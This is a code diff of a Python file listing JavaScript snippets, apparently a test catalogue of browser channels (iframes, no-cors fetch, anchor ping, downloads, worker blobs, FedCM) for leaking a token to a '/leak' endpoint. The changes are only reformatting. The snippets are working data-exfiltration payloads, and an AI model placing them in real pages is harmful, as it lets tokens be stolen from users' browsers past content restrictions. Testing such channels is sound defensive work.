@@ -115,7 +115,7 @@ CHANNELS: dict[str, str] = {
     "frame": "every((t, b) => { add('iframe', {src: b + '/leak/iframe?v=' + t}); });",
     "frame srcdoc": (
         "every((t, b) => add('iframe', {srcdoc: '<img src=\"' + b + '/leak/srcdoc?v=' + t + '\">"
-        "<script>fetch(\"' + b + '/leak/srcdoc\", {method: \"POST\", mode: \"no-cors\", body: \"' + t"
+        '<script>fetch("\' + b + \'/leak/srcdoc", {method: "POST", mode: "no-cors", body: "\' + t'
         " + '\"})<' + '/script>'}));"
     ),
     "frame sandbox": (
@@ -137,16 +137,14 @@ CHANNELS: dict[str, str] = {
     "download": (
         "every((t, b) => add('a', {href: b + '/leak/download?v=' + t, download: 'x'}).click());"
     ),
-    "ping": (
-        "every((t, b) => add('a', {href: '#', ping: b + '/leak/ping?v=' + t}).click());"
-    ),
+    "ping": ("every((t, b) => add('a', {href: '#', ping: b + '/leak/ping?v=' + t}).click());"),
     # -------------------------------------------------------------- workers
     "worker": (
         "const w1 = new Worker('/worker.js'); every((t, b) => w1.postMessage({t, base: b}));"
     ),
     "worker blob": (
         "every((t, b) => new Worker(URL.createObjectURL(new Blob(['fetch(\"' + b + '/leak/blob?v=' + t"
-        " + '\", {mode: \"no-cors\"})']))));"
+        ' + \'", {mode: "no-cors"})\']))));'
     ),
     "worker address": "every((t, b) => new Worker(OWN + '/worker.js?v=' + t));",
     "nested worker": (
@@ -201,9 +199,7 @@ CHANNELS: dict[str, str] = {
         " + (pr === 'tcp' ? ' tcptype passive' : '')}); });"
     ),
     # -------------------------------------------------------------- the browser's own reports
-    "csp report": (
-        "every((t, b) => { new Image().src = 'http://kwikstaart.localhost:1/'; });"
-    ),
+    "csp report": ("every((t, b) => { new Image().src = 'http://kwikstaart.localhost:1/'; });"),
     "fedcm": (
         "every((t, b) => navigator.credentials.get({identity: {providers: [{configURL: b + "
         "'/leak/fedcm?v=' + t, clientId: t.slice(0, 50), nonce: '1'}]}}));"
